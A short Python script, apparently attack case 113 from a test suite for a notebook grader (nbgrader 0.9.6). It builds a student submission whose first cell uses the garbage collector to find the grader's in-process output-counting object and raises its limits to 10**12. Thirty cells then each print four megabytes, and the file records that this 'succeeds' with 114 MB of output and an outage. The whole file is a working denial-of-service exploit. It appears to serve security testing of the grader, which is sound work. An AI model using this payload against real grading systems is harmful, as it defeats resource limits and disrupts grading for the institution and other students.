"""Lift the limit on outputs, and print four megabytes in each of thirty cells.

The agent counts what cells print, and the agent is in the student's process. If nobody counts again
outside, a notebook of many cells fills the journal, the graded notebooks and the grader's memory.
"""

import json

NUMBER = "113"
WANTS = "outage"
STOCK = "succeeds: 114 MB of output (nbgrader 0.9.6)"
LIFT = """
import gc

for one in gc.get_objects():
    if type(one).__name__ == "Outputs":
        one._cell = one._left = one._room = 10**12
"""


def submit(folder, work):
    cells = [
        {
            "cell_type": "code",
            "id": f"c{n}",
            "metadata": {},
            "outputs": [],
            "source": "print('x' * 4_000_000)",
        }
        for n in range(30)
    ]
    lift = {"cell_type": "code", "id": "lift", "metadata": {}, "outputs": [], "source": LIFT}
    work["cells"] = [lift, *cells, *work["cells"]]
    (folder / "target.ipynb").write_text(json.dumps(work))
